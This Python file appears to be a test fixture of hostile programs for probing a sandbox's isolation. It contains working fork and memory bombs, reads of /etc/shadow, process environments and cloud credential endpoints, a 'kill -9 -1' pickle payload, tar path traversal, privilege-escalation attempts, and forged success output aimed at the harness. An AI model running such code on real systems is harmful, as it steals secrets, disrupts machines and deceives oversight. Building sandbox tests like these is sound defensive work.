"""Programs that mean harm. Each prints what it got hold of after REACHED; a program that holds back prints nothing."""

HEAD = """
import ctypes, glob, mmap, os, resource, signal, socket, stat, sys, threading, time
MARK, WORKER = sys.argv[1:3]
def tried(action):
    try:
        return action()
    except BaseException as error:
        return None
def reached(what):
    sys.stdout.write(f"REACHED {what!r}\\n"[:3000])
    sys.stdout.flush()
"""

PROGRAMS = {
    "forks for ever": "while True:\n    tried(os.fork)",
    "starts threads for ever": "while True:\n    tried(lambda: threading.Thread(target=time.sleep, args=(60,)).start())",
    "takes memory in many processes": """
for _ in range(30):
    if tried(os.fork) == 0:
        kept = bytearray(150 << 20)
        for at in range(0, len(kept), 4096):
            kept[at] = 1
        time.sleep(60)
time.sleep(60)
""",
    "takes memory that is shared": """
kept = []
for _ in range(12):
    if os.fork() == 0:
        kept.append(mmap.mmap(-1, 400 << 20))
        for at in range(0, 400 << 20, 4096):
            kept[-1][at] = 1
        time.sleep(60)
time.sleep(60)
""",
    "takes memory that has no owner": """
for number in range(500):
    fd = tried(lambda: os.memfd_create("x"))
    if fd:
        reached("memory without an owner")
        os.write(fd, bytes(16 << 20))
""",
    "fills the disk with files": "n = 0\nwhile True:\n    n += 1\n    open(f'f{n}', 'wb').write(bytes(8 << 20))",
    "fills the disk with empty files": "n = 0\nwhile True:\n    n += 1\n    open(f'f{n}', 'wb').close()",
    "nests folders deeper than a path": "for _ in range(4000):\n    os.mkdir('d' * 50)\n    os.chdir('d' * 50)",
    "locks its folders": "os.makedirs('a/b/c')\nopen('a/b/c/f', 'w').close()\nos.chmod('a/b', 0)\nos.chmod('a', 0)\nos.chmod('.', 0)",
    "makes one file that is too large": "f = open('f', 'wb')\nf.truncate(1 << 40)\nreached('a file of a tebibyte')",
    "links to what it may not read": """
for number, place in enumerate(("/etc/shadow", "/root", f"/proc/{WORKER}/environ", "/etc/passwd")):
    tried(lambda: os.symlink(place, f"link-{number}"))
    tried(lambda: os.link(place, f"hard-{number}"))
    content = tried(lambda: open(f"link-{number}", "rb").read(50))
    if content:
        reached(content)
os.symlink("loop", "loop")
""",
    "opens sockets": """
families = [getattr(socket, name) for name in dir(socket) if name.startswith("AF_")]
for family in families:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        if tried(lambda: socket.socket(family, kind)):
            reached(family)
""",
    "asks for credentials": """
import urllib.request
for url in ("http://169.254.170.2/v2/credentials", "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/health"):
    if tried(lambda: urllib.request.urlopen(url, timeout=1).read()):
        reached(url)
""",
    "reads the environments and memory of others": """
for path in [*glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline"), f"/proc/{WORKER}/mem", f"/proc/{os.getppid()}/environ", "/proc/self/environ",
             "/proc/1/environ", "/root/.aws/credentials", "/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/kallsyms", "/dev/mem", "/dev/kmsg"]:
    content = tried(lambda: open(path, "rb").read(200))
    if content:
        reached((path, content))
if [name for name in os.environ if name.startswith(("AWS", "DDF", "CANARY"))]:
    reached(dict(os.environ))
""",
    "reads what it inherited": """
os.set_blocking(0, False)
for number in range(3, 1024):
    if tried(lambda: os.fstat(number)):
        reached((number, tried(lambda: os.readlink(f"/proc/self/fd/{number}"))))
""",
    "kills everybody": """
for pid in (int(WORKER), os.getppid(), 1, -1, *range(2, 70000)):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        if pid != os.getpid() and tried(lambda: os.kill(pid, number) or True) and pid > 0:
            reached(pid)
""",
    "traces the worker": """
library = ctypes.CDLL(None, use_errno=True)
for pid in (int(WORKER), os.getppid()):
    if library.ptrace(16, pid, 0, 0) == 0:
        reached(("ptrace", pid))
""",
    "leaves its session": "tried(os.setsid)\ntried(lambda: os.setpgid(0, 0))\nif os.getsid(0) == os.getpid() and os.fork() == 0:\n    tried(os.setsid) is None and time.sleep(60)",
    "leaves children that won't die": """
library = ctypes.CDLL(None)
for _ in range(3):
    if os.fork() == 0:
        for number in range(1, 65):
            tried(lambda: signal.signal(number, signal.SIG_IGN))
        if os.fork() == 0:
            library.prctl(4, 0, 0, 0, 0)  # nobody may look into it
            library.prctl(1, 0, 0, 0, 0)  # nobody's death ends it
            time.sleep(60)
        os._exit(0)
""",
    "hides from a sweep": """
import shutil
shutil.copy("/bin/sleep", "hidden")
os.chmod("hidden", 0o111)  # a program that can't be read makes its process root's in /proc
if os.fork() == 0:
    os.execv("hidden", ["hidden", "61"])
""",
    "stops itself": "os.kill(os.getpid(), signal.SIGSTOP)",
    "ignores every signal": "for number in range(1, 65):\n    tried(lambda: signal.signal(number, signal.SIG_IGN))\nwhile True:\n    pass",
    "floods its output": "while True:\n    os.write(1, b'x' * 65536)\n    os.write(2, b'y' * 65536)",
    "unpacks a bomb": """
import io, zipfile
bomb = io.BytesIO()
with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as file:
    for number in range(2):
        file.writestr(f"part-{number}", bytes(15 << 20))
for number in range(40):
    zipfile.ZipFile(bomb).extractall(f"copy-{number}")
reached("a gigabyte")
""",
    "unpacks a bomb out of its folder": """
import io, tarfile
made = io.BytesIO()
with tarfile.open(fileobj=made, mode="w") as file:
    entry = tarfile.TarInfo(f"../../../../../../{MARK}")
    entry.size = 4
    file.addfile(entry, io.BytesIO(b"here"))
made.seek(0)
tried(lambda: tarfile.open(fileobj=made).extractall("."))
""",
    "loads an evil pickle": """
import pickle
class Evil:
    def __reduce__(self):
        return (os.system, (f"touch {MARK} /tmp/x-$$; cat /etc/shadow /proc/*/environ; kill -9 -1",))
pickle.loads(pickle.dumps(Evil()))
""",
    "writes everywhere": """
for place in (MARK, "/tmp/escaped", "/var/tmp/escaped", "/dev/shm/escaped", "/escaped", "/etc/escaped", "../escaped", "../../escaped"):
    if tried(lambda: open(place, "w").write("here")) and os.path.dirname(place) not in ("/tmp", "/dev/shm"):
        reached(place)
tried(lambda: open(MARK, "w").write("here"))
""",
    "raises its limits": """
for name in ("RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_CPU", "RLIMIT_AS", "RLIMIT_NOFILE"):
    if tried(lambda: resource.setrlimit(getattr(resource, name), (-1, -1)) or True):
        reached(name)
if tried(lambda: os.nice(-10)) is not None:
    reached("priority")
for action in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chroot("."), lambda: os.mknod("d", stat.S_IFBLK)):
    if tried(lambda: action() or True):
        reached("a privilege")
""",
    "forges its end": """
for number in range(0, 256):
    tried(lambda: os.write(number, b'{"exit_code": 0, "cpu_seconds": 0}\\n{"failure": "no"}\\n'))
os._exit(3)
""",
}
